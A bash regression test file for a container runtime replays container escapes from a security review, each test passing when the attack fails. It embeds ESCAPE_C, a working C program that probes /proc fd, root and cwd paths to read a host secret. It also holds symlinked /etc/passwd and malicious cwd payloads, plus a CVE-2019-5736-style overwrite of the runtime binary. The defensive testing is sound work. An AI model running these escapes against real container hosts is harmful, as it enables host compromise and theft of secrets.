# shellcheck shell=bash
# Container escapes of the security review of e06801a (issue #11, findings
# 1-3), each replayed as the attacker did it. Every test passes when the
# attack fails, and fails against a test build with its protection off
# (tests/cve-off.sh rows: init-host-procfd, in-root-lookups, sealed-exe,
# km-exec-fd, km-sandbox-rule; the KM ones live in test_km.sh).

# ATTACKER_C (the /proc/PID/exe rewriter) is test_safety.sh's.
. "$E2E_DIR/test_safety.sh"

# A host file no container may read: $TD/host/secret.
_escape_secret() {
	mkdir -p "$TD/host"
	HOST_SECRET="host-secret-$E2E_RUNID-$RANDOM"
	echo "$HOST_SECRET" >"$TD/host/secret"
}

# escape.c: scans /proc for other processes and tries to reach the host's
# root through every fd they hold ("/proc/P/fd/N/../../H/root/SECRET": a
# host /proc/self/fd handle leads to the host's procfs and from there to
# any host process H and its root; H: the test's shell, whose root is the
# host's; "/proc/P/fd/N/H/root/SECRET" for a handle on the procfs root;
# or H's cmdline, which needs no ptrace rights: H is a host process whose
# argv[0] is the secret), and through their root and cwd. Prints
# "GOT <line>" on success.
# argv: SECRET-PATH OUT-FILE SECONDS HOST-PID
ESCAPE_C='
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#define UP "../../../../../../../../../../../../../../.."
static double now(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}
int main(int argc, char **argv) {
	FILE *r = fopen(argv[2], "w");
	int secs = atoi(argv[3]), self = getpid(), seen[4096] = {0};
	long tries = 0;
	char path[18][768], buf[256];
	if (!r) return 2;
	setvbuf(r, NULL, _IONBF, 0);
	fprintf(r, "started\n");
	double end = now() + secs;
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self || pid >= 4096 || seen[pid]) continue;
			seen[pid] = 1;
			/* A new process: hammer its fds for a while (the instant after
			   an execve, before the new image drops dumpable, is short). */
			int np = 0;
			for (int fd = 3; fd < 7; fd++) {
				/* the host file (needs ptrace rights over H) */
				snprintf(path[np++], sizeof path[0], "/proc/%d/fd/%d/../../%s/root%s", pid, fd, argv[4], argv[1]);
				snprintf(path[np++], sizeof path[0], "/proc/%d/fd/%d/%s/root%s", pid, fd, argv[4], argv[1]);
				/* a host process: its argv[0] is the secret (needs nothing) */
				snprintf(path[np++], sizeof path[0], "/proc/%d/fd/%d/../../%s/cmdline", pid, fd, argv[4]);
				snprintf(path[np++], sizeof path[0], "/proc/%d/fd/%d/%s/cmdline", pid, fd, argv[4]);
			}
			/* and its root and cwd: the host ones while a runtime process
			   sets the container up in a shared pid namespace */
			snprintf(path[np++], sizeof path[0], "/proc/%d/root%s", pid, argv[1]);
			snprintf(path[np++], sizeof path[0], "/proc/%d/cwd/%s%s", pid, UP, argv[1]);
			double stop = now() + 0.3;
			while (now() < stop) {
				for (int i = 0; i < np; i++) {
					int f = open(path[i], O_RDONLY);
					tries++;
					if (f < 0) continue;
					ssize_t n = read(f, buf, sizeof buf - 1);
					buf[n > 0 ? n : 0] = 0;
					fprintf(r, "GOT %s via %s\n", buf, path[i]);
					/* stay: as pid 1 our exit would kill the others */
					while (now() < end) sleep(1);
					return 0;
				}
			}
		}
		if (d) closedir(d);
	}
	fprintf(r, "done %ld tries\n", tries);
	return 0;
}'

_escape_attacker() { build_attacker "$TD/rootfs" escape "$ESCAPE_C"; }

# The fds a created container's waiting init holds: stdio, and otherwise
# only sockets, pipes and anonymous inodes, nothing that names a path
# (runc 1.1.5 holds exec.fifo there, so this strict form is kiln's).
_expect_pathless_fds() {
	local pid=$1 what=$2 f t bad=""
	for f in /proc/"$pid"/fd/*; do
		[ "${f##*/}" -ge 3 ] || continue
		t=$(readlink "$f") || continue
		# a sealed memfd (the exec stub kiln waits in) names no host file
		case "$t" in socket:* | pipe:* | anon_inode:* | /memfd:*) ;; *) bad+=" ${f##*/}->$t" ;; esac
	done
	[ -z "$bad" ] || fail "$what holds fds with a path:$bad"
}

test_escape_created_init_holds_no_path() {
	[ "$RT_NAME" = kiln ] || skip "runc's created init holds exec.fifo"
	local id b pid
	id=$(new_id)
	b=$(mkb "$id" true)
	cap rt create --bundle "$b" "$id" </dev/null
	expect_ok "create"
	pid=$(pid_of "$id")
	_expect_pathless_fds "$pid" "the created init"
	cap rt delete -f "$id"
	# With a startContainer hook kiln's own init waits (not the stub).
	id=$(new_id)
	b=$(mkb "$id" true)
	sed -i 's|"process": {|"hooks": {"startContainer": [{"path": "/bin/true"}]},\n\t"process": {|' "$b/config.json"
	cap rt create --bundle "$b" "$id" </dev/null
	expect_ok "create with a startContainer hook"
	pid=$(pid_of "$id")
	_expect_pathless_fds "$pid" "the created init (startContainer hook)"
	cap rt start "$id"
	expect_ok "start"
	cap rt delete -f "$id"
}

# _escape_shared_pidns CAPS ROUNDS: A runs the attacker in its own pid
# namespace; ROUNDS containers B join it and stay created. A must never read
# the host secret. With CAP_SYS_PTRACE A can open the fds of the waiting
# init for the whole created state; with the default capabilities only in
# the instant after the stub's execve, before it drops dumpable (a race).
_escape_shared_pidns() {
	local caps=$1 rounds=$2 a ba apid i b bb marker
	_escape_secret
	_escape_attacker
	# a host process anyone who reaches the host's procfs can read the secret from
	(exec -a "$HOST_SECRET" sleep 120) &
	marker=$!
	a=$(new_id)
	ba=$(C_ROOTFS=$TD/rootfs C_CAPS="$caps" mkb "$a" /escape "$TD/host/secret" /mnt/result 60 "$marker")
	cap rt run -d --bundle "$ba" "$a"
	expect_ok "run -d attacker"
	wait_file "$ba/share/result"
	apid=$(pid_of "$a")
	for i in $(seq "$rounds"); do
		b=$(new_id)
		bb=$(C_ROOTFS=$TD/rootfs \
			C_NS="{\"type\":\"pid\",\"path\":\"/proc/$apid/ns/pid\"},{\"type\":\"mount\"},{\"type\":\"ipc\"},{\"type\":\"uts\"}" \
			mkb "$b" true)
		cap rt create --bundle "$bb" "$b" </dev/null
		expect_ok "create B #$i (joins A's pid namespace)"
		sleep 0.2
		cap rt delete -f "$b"
		grep -q '^GOT' "$ba/share/result" && break
	done
	echo "attacker: $(tr '\n' ';' <"$ba/share/result") after $i creates" >&2
	kill "$marker" 2>/dev/null
	! grep -q "$HOST_SECRET" "$ba/share/result" || fail "a container reached the host through a created init: $(cat "$ba/share/result")"
	cap rt delete -f "$a"
}

test_escape_created_init_ptrace() {
	_escape_shared_pidns "$DEFAULT_CAPS,\"CAP_SYS_PTRACE\"" 3
}

test_escape_created_init_race() {
	_escape_shared_pidns "$DEFAULT_CAPS" 20
}

# _create_start ID BUNDLE: create, then start (the created init is the one
# that waited); OUT/ERR/RC of the failing step, or of start.
_create_start() {
	cap rt create --bundle "$2" "$1" </dev/null
	[ "$RC" = 0 ] || return 0
	cap rt start "$1"
	[ "$RC" = 0 ] && wait_status "$1" stopped 5
}

# A malicious image alone: process.cwd through the init's host fd. The init
# must not create the directory on the host (nor enter it).
test_escape_cwd_through_init_fd() {
	local id b n
	_escape_secret
	for n in 3 4 5 6 7 8; do
		id=$(new_id)
		b=$(C_CWD="/proc/self/fd/$n/../../$$/root$TD/host/made-$n" mkb "$id" sh -c 'cat secret >/mnt/out 2>/dev/null; pwd >>/mnt/out')
		_create_start "$id" "$b"
		OUT=$(cat "$b/share/out" 2>/dev/null)
		[[ $OUT != *"$HOST_SECRET"* ]] || fail "$(ctx "cwd through fd $n: the process read the host directory")"
		[ ! -e "$TD/host/made-$n" ] || fail "$(ctx "cwd through fd $n: the runtime made a directory on the host")"
		rt delete -f "$id" >/dev/null 2>&1
	done
}

# A malicious image alone: /etc/passwd a symlink through the init's host fd;
# HOME would come from a host file.
test_escape_passwd_through_init_fd() {
	local id b n
	mkdir -p "$TD/host"
	echo "root:x:0:0:root:/HOST-HOME-$E2E_RUNID:/bin/sh" >"$TD/host/passwd"
	make_rootfs "$TD/rootfs"
	for n in 3 4 5 6 7 8; do
		rm -f "$TD/rootfs/etc/passwd"
		ln -s "/proc/self/fd/$n/../../$$/root$TD/host/passwd" "$TD/rootfs/etc/passwd"
		id=$(new_id)
		b=$(C_ROOTFS=$TD/rootfs mkb "$id" sh -c 'echo "HOME=$HOME" >/mnt/out')
		_create_start "$id" "$b"
		expect_ok "create/start with /etc/passwd -> fd $n"
		OUT=$(cat "$b/share/out" 2>/dev/null)
		[[ $OUT != *HOST-HOME* ]] || fail "$(ctx "HOME came from a host file through fd $n")"
		rt delete -f "$id" >/dev/null 2>&1
	done
}

# A FIFO as /etc/passwd must not hang run or exec (HOME lookup).
test_escape_passwd_fifo() {
	local id b
	make_rootfs "$TD/rootfs"
	rm -f "$TD/rootfs/etc/passwd"
	mkfifo "$TD/rootfs/etc/passwd"
	id=$(new_id)
	b=$(C_ROOTFS=$TD/rootfs mkb "$id" sh -c 'echo "HOME=$HOME"')
	E2E_CMD_TIMEOUT=10 cap rt run --bundle "$b" "$id" </dev/null
	expect_ok "run with a FIFO as /etc/passwd"
	expect_out_has "HOME=/"
	rt delete -f "$id" >/dev/null 2>&1
	id=$(new_id)
	b=$(C_ROOTFS=$TD/rootfs mkb "$id" sleep 30)
	cap rt run -d --bundle "$b" "$id" </dev/null
	expect_ok "run -d"
	E2E_CMD_TIMEOUT=10 cap rt exec "$id" sh -c 'echo "HOME=$HOME"'
	expect_ok "exec with a FIFO as /etc/passwd"
	expect_out_has "HOME=/"
	cap rt delete -f "$id"
}

# CVE-2019-5736 through `exec`: a container with CAP_SYS_PTRACE watches for
# the processes `kiln exec` puts into its pid namespace, opens their
# /proc/PID/exe and rewrites the file once kiln is done with it. The
# runtime under test is a private copy (an unprotected runtime gets THAT
# file overwritten).
test_escape_exec_exe_overwrite_ptrace() {
	local copy sum id b i
	build_attacker "$TD/rootfs"
	private_runtime
	copy=$RT_COPY sum=$RT_SUM
	local KILN=$copy
	id=$(new_id)
	b=$(C_ROOTFS=$TD/rootfs C_CAPS="$DEFAULT_CAPS,\"CAP_SYS_PTRACE\",\"CAP_DAC_OVERRIDE\"" mkb "$id" /attacker /mnt/result 8 loop)
	cap rt run -d --bundle "$b" "$id"
	expect_ok "run -d attacker"
	_scan_done() { grep -q '^scan-done' "$b/share/result" 2>/dev/null; }
	for i in $(seq 60); do
		cap rt exec "$id" true
		_scan_done && break
	done
	_result() { grep -q '^result:' "$b/share/result" 2>/dev/null; }
	poll 15 _result || fail "attacker gave no result: $(tr '\n' ';' <"$b/share/result" 2>/dev/null)"
	echo "attacker after $i execs: $(tr '\n' ';' <"$b/share/result")" >&2
	[ "$(sha256sum <"$copy")" = "$sum" ] || fail "runtime binary overwritten through exec: $(tr '\n' ';' <"$b/share/result")"
	cap rt delete -f "$id"
}

# The same attack on create/run: an attacker (CAP_SYS_PTRACE) in container A
# watches A's pid namespace while containers B join it with `run -d`; each B
# runs kiln code in that namespace before its payload. kiln re-execs from a
# read-only view of itself for a joined pid namespace (init_seen_by_containers;
# with a new one nothing can watch, and the payload is exec'd through the
# sealed stub), so the binary the attacker got hold of cannot be written.
test_escape_joined_pidns_init_exe() {
	local copy sum a apid ab b bb i
	build_attacker "$TD/rootfs"
	private_runtime
	copy=$RT_COPY sum=$RT_SUM
	local KILN=$copy
	a=$(new_id)
	ab=$(C_ROOTFS=$TD/rootfs C_CAPS="$DEFAULT_CAPS,\"CAP_SYS_PTRACE\",\"CAP_DAC_OVERRIDE\"" mkb "$a" /attacker /mnt/result 8 loop)
	cap rt run -d --bundle "$ab" "$a"
	expect_ok "run -d attacker A"
	apid=$(pid_of "$a")
	_scan_done() { grep -q '^scan-done' "$ab/share/result" 2>/dev/null; }
	for i in $(seq 40); do
		b=$(new_id)
		bb=$(C_ROOTFS=$TD/rootfs mkb_in_pidns "$b" "$apid" true)
		cap rt run -d --bundle "$bb" "$b"
		cap rt delete -f "$b"
		_scan_done && break
	done
	_result() { grep -q '^result:' "$ab/share/result" 2>/dev/null; }
	poll 15 _result || fail "attacker gave no result: $(tr '\n' ';' <"$ab/share/result" 2>/dev/null)"
	echo "attacker after $i runs: $(tr '\n' ';' <"$ab/share/result")" >&2
	[ "$(sha256sum <"$copy")" = "$sum" ] || fail "runtime binary overwritten through a joined pid namespace: $(tr '\n' ';' <"$ab/share/result")"
	grep -q '^opened' "$ab/share/result" || fail "the attacker never saw a B init: $(tr '\n' ';' <"$ab/share/result")"
	cap rt delete -f "$a"
}

# A container that joins another's pid namespace sees that namespace in its
# /proc (kiln's init sets it up from outside the namespace, see
# enter_shared_pid_ns): pid 1 is the other container's process, and no
# host process is visible.
# run_a ID: container A (sleep 60) detached; prints its pid
run_a() {
	cap rt run -d --bundle "$(mkb "$1" sleep 60)" "$1"
	expect_ok "run -d A"
	pid_of "$1"
}
# mkb_in_pidns ID PID ARGS...: a bundle joining PID's pid namespace
mkb_in_pidns() {
	local id=$1 pid=$2
	shift 2
	C_NS="{\"type\":\"pid\",\"path\":\"/proc/$pid/ns/pid\"},{\"type\":\"mount\"},{\"type\":\"ipc\"},{\"type\":\"uts\"}" \
		mkb "$id" "$@"
}

test_escape_shared_pidns_proc_view() {
	local a apid b bb
	a=$(new_id)
	apid=$(run_a "$a")
	b=$(new_id)
	bb=$(mkb_in_pidns "$b" "$apid" sh -c 'tr "\0" " " </proc/1/cmdline; echo; ls -d /proc/[0-9]* | wc -l; echo "self=$$"')
	cap rt run --bundle "$bb" "$b" </dev/null
	expect_ok "run B in A's pid namespace"
	expect_out_has "sleep 60"
	# A's sleep, B's sh (and its ls): a handful, not the host's hundreds
	local n
	n=$(sed -n 2p <<<"$OUT")
	[ "$n" -le 5 ] || fail "B's /proc shows $n processes: not A's pid namespace"
	[ "$(sed -n 's/^self=//p' <<<"$OUT")" -lt 10 ] || fail "B's pid is not one of A's namespace: $OUT"
	cap rt delete -f "$a"
}

# The same, detached (a CRI pod's app containers join the sandbox's pid
# namespace so): the state records the container process, not the init that
# forked it into the namespace and left; exec, kill and the pid file work.
test_escape_shared_pidns_state_exec() {
	local a apid b bb bpid
	a=$(new_id)
	apid=$(run_a "$a")
	b=$(new_id)
	bb=$(mkb_in_pidns "$b" "$apid" sleep 60)
	cap rt run -d --pid-file "$TD/b.pid" --bundle "$bb" "$b"
	expect_ok "run -d B in A's pid namespace"
	bpid=$(pid_of "$b")
	[ "$(tr '\0' ' ' <"/proc/$bpid/cmdline")" = "sleep 60 " ] || fail "state pid $bpid is not B's sleep"
	[ "$(cat "$TD/b.pid")" = "$bpid" ] || fail "pid file $(cat "$TD/b.pid"), state $bpid"
	cap rt exec "$b" sh -c 'echo exec-ok'
	expect_ok "exec in B"
	expect_out_eq exec-ok
	cap rt kill "$b" KILL
	expect_ok "kill B"
	cap rt delete -f "$b"
	cap rt delete -f "$a"
}
